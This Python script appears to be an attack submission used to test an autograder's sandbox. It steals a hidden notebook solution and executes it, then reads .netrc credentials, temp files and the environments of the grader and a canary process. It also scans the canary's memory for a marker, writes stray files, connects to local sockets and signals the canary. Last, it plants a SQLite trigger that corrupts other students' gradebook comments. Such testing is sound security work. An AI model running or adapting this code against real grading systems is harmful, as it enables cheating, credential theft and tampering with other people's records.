# Without a sandbox: steals a solution and secrets, writes, connects, signals, spoils others' records, stays.
# how: instead
import json
import os
import re
import signal
import socket
import sqlite3
import time

TARGETS = json.load(open("targets.json"))
COURSE = TARGETS["course"]
ZYGOTE = os.getppid()
GRADER = int(open(f"/proc/{ZYGOTE}/stat").read().rsplit(")", 1)[1].split()[1])

source = json.load(open(f"{COURSE}/solutions/actividad_1/actividad_1.ipynb"))
stolen = next(
    "".join(cell["source"])
    for cell in source["cells"]
    if cell["metadata"].get("nbgrader", {}).get("grade_id") == "activacion"
)
exec(stolen)
print(stolen)
for place in (f"{TARGETS['home']}/.netrc", TARGETS["tmp"], TARGETS["shm"]):
    print(open(place).read())
for process in (GRADER, TARGETS["canary"]):
    print(open(f"/proc/{process}/environ", errors="replace").read())
with open(f"/proc/{TARGETS['canary']}/mem", "rb", 0) as memory:
    for line in open(f"/proc/{TARGETS['canary']}/maps"):
        span, rights, *_ = line.split()
        start, end = (int(one, 16) for one in span.split("-"))
        if rights.startswith("rw") and end - start < 1 << 26:
            memory.seek(start)
            found = re.search(rb"MARK\w+KRAM", memory.read(end - start))
            print(found and found[0])
open(f"{COURSE}/solutions/left", "w").write("x")
open("/dev/shm/left-by-an-attack", "w").write("x")
for family, address in (
    (socket.AF_INET, ("127.0.0.1", TARGETS["tcp4"])),
    (socket.AF_UNIX, TARGETS["socket"]),
    (socket.AF_UNIX, "\0" + TARGETS["abstract"]),
):
    with socket.socket(family) as sock:
        sock.connect(address)
        print(sock.recv(1000).decode())
os.kill(TARGETS["canary"], signal.SIGUSR1)
with sqlite3.connect(f"{COURSE}/gradebook.db") as book:
    book.execute(
        "CREATE TRIGGER spoil AFTER UPDATE OF auto_comment ON comment "
        "BEGIN UPDATE comment SET auto_comment = 'x' WHERE id = NEW.id; END"
    )
